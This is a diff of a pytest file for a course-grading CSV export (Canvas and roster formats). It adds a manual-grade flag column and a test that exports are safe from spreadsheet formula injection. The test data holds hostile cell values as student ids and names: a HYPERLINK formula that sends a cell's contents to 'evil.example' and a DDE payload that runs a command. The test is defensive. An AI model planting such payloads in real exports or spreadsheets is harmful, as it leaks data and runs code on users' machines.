@@ -2,7 +2,8 @@
 gradebook (nothing is graded), exported for Canvas and as a roster by our command line, and by
 stock `nbgrader export` with the same plugins, which must write the same files.
 
-The class: ada submitted both notebooks at full marks, 02 late (nbgrader's penalty of 1 point);
+The class: ada submitted both notebooks at full marks, 02 late (nbgrader's penalty of 1 point)
+and flagged as needing a manual grade;
 alan submitted 01 at full marks but a grader overrode one exercise in the formgrader
 (manual_score); grace submitted nothing.
 """
@@ -41,7 +42,8 @@ def course(tmp_path_factory):
         book.update_or_create_student("grace", first_name="Grace", last_name="Hopper")
         for student, assignment in [("ada", CONV), ("ada", POOL), ("alan", CONV)]:
             for grade in grades(book.add_submission(assignment, student, timestamp=SUBMITTED_AT)):
-                grade.auto_score = grade.max_score
+                grade.auto_score, grade.needs_manual_grade = grade.max_score, False
+        grades(book.find_submission(POOL, "ada"))[0].needs_manual_grade = True     # flagged by grade
         overridden = grades(book.find_submission(CONV, "alan"))[0]
         overridden.manual_score = OVERRIDE
         book.find_submission(POOL, "ada").notebooks[0].late_submission_penalty = LATE_PENALTY
@@ -88,16 +90,17 @@ def test_the_roster_has_a_row_per_student_and_assignment(course, capsys):
     assert f"wrote {path}" in capsys.readouterr().out
     header, *rows = read(path)
     assert header == ["student_id", "first_name", "last_name", "email", "assignment", "score", "max_score",
-                      "late_penalty", "final_score", "submitted", "timestamp"]
+                      "late_penalty", "final_score", "submitted", "timestamp", "needs_manual_grade"]
     table = {(row[0], row[4]): row for row in rows}
     assert [key for key in table] == [(s, a) for s in ("grace", "ada", "alan") for a in (CONV, POOL)]
     when = "2025-03-01T10:00:00+00:00"
     assert table[("ada", POOL)] == ["ada", "Ada", "Lovelace", "ada@example.edu", POOL, fmt(maxima[POOL]),
-                                    fmt(maxima[POOL]), fmt(LATE_PENALTY), fmt(final[("ada", POOL)]), "yes", when]
+                                    fmt(maxima[POOL]), fmt(LATE_PENALTY), fmt(final[("ada", POOL)]), "yes", when,
+                                    "yes"]
     assert table[("alan", CONV)] == ["alan", "Alan", "Turing", "", CONV, fmt(final[("alan", CONV)]),
-                                     fmt(maxima[CONV]), "0", fmt(final[("alan", CONV)]), "yes", when]
+                                     fmt(maxima[CONV]), "0", fmt(final[("alan", CONV)]), "yes", when, "no"]
     for key in [("alan", POOL), ("grace", CONV), ("grace", POOL)]:
-        assert table[key][5:] == ["", fmt(maxima[key[1]]), "", "", "no", ""], key
+        assert table[key][5:] == ["", fmt(maxima[key[1]]), "", "", "no", "", ""], key
 
 
 def test_only_the_chosen_assignments_and_students_and_no_unknown_one(course, tmp_path, capsys):
@@ -134,3 +137,49 @@ def test_nbgrader_export_writes_what_our_command_line_writes(course, tmp_path):
     assert export(root, "--format", "roster", "--out", str(tmp_path / "roster.csv"), *only) == 0
     roster = (tmp_path / "roster.csv").read_bytes()
     assert (tmp_path / "nbgrader-roster.csv").read_bytes() == roster and len(read(tmp_path / "roster.csv")) == 3
+
+
+# OWASP's CSV injection: a cell starting with one of these is read as a formula.
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = {'=HYPERLINK("http:" & "evil.example?" & A1, "open")': ("=1+1", "-2", "@evil.example"),
+           "+1+cmd|' -C calc'!A0": ("+x", "\t=1", "\r=2"),
+           "-2+3": ("", "", ""), "@SUM(1+1)": ("", "", ""), "\t=1+1": ("", "", ""), "\r=1+1": ("", "", "")}
+
+
+@pytest.fixture(scope="module")
+def hostile_course(tmp_path_factory):
+    """A course whose students' ids, names and emails start with what a spreadsheet runs,
+    each with a submission of 01-convolution at full marks but one without."""
+    root = copy_course(tmp_path_factory.mktemp("export-hostile") / "course", release=(CONV,))
+    with warnings.catch_warnings(), gradebook(root) as book:
+        warnings.simplefilter("ignore")
+        for number, (student, (first, last, email)) in enumerate(HOSTILE.items()):
+            book.update_or_create_student(student, first_name=first or None, last_name=last or None,
+                                          email=email or None, lms_user_id=f"-{number}" if number else None)
+            if number:
+                for grade in grades(book.add_submission(CONV, student, timestamp=SUBMITTED_AT)):
+                    grade.auto_score = grade.max_score
+        book.db.commit()
+    return root
+
+
+def shown(cell):
+    """A cell as a spreadsheet shows it: a leading single quote marks text and is not shown."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+@pytest.mark.parametrize("format, id_column, texts", [
+    ("canvas", 3, {"-2, =1+1", "\t=1, +x", "-1"}),                  # "Last, First" and the lms_user_id
+    ("roster", 0, {"=1+1", "-2", "@evil.example", "+x", "\t=1", "\r=2"})])
+def test_no_exported_cell_starts_with_a_formula_and_the_ids_are_still_there(hostile_course, tmp_path, format,
+                                                                            id_column, texts):
+    out = tmp_path / f"{format}.csv"
+    assert export(hostile_course, "--format", format, "--out", str(out)) == 0
+    rows = read(out)
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)]
+    students = rows[2:] if format == "canvas" else rows[1:]
+    assert {shown(row[id_column]) for row in students} == set(HOSTILE)
+    names = {shown(cell) for row in students for cell in row}
+    assert texts <= names
+    scores = [row[5] for row in students if row[5]] if format == "canvas" else [row[8] for row in students if row[8]]
+    assert len(scores) == len(HOSTILE) - 1 and all(float(score) > 0 for score in scores)   # numbers stay numbers
